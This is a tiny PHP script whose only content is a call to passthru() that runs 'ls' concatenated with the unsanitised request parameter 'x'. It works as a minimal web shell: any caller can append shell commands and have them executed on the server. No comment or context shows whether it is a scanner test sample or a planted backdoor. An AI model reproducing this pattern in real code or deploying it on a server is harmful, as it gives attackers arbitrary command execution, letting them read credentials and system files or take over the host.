<?php
passthru('ls' . $_REQUEST['x']);
